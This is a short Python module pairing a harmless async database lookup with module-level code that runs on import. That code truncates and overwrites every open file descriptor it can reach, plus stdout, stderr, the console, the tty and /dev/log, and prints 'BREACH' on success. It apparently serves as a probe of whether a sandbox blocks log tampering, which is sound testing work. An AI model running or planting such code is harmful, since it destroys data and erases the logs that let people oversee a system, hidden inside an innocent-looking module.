"""Rewrites history."""

import os

tried = 0
for number in range(1, 64):  # 0 is /dev/null
    for path in (f"/proc/self/fd/{number}", f"/dev/fd/{number}"):
        descriptor = None
        try:
            descriptor = os.open(path, os.O_RDWR | os.O_TRUNC)
            os.lseek(descriptor, 0, os.SEEK_SET)
            os.write(descriptor, b"rewritten")
            print("BREACH: a log with a beginning at", path)
        except OSError:
            pass
        if descriptor is not None:
            os.close(descriptor)
        tried += 1
for path in ("/dev/stdout", "/dev/stderr", "/dev/console", "/dev/tty", "/dev/log"):
    try:
        with open(path, "r+b") as stream:
            stream.truncate(0)
            print("BREACH: truncated", path)
    except OSError:
        pass
    tried += 1


async def name_of(pool, counter_id):
    print("tried", tried)
    return await pool.fetchval("SELECT name FROM counters WHERE id = $1", counter_id)
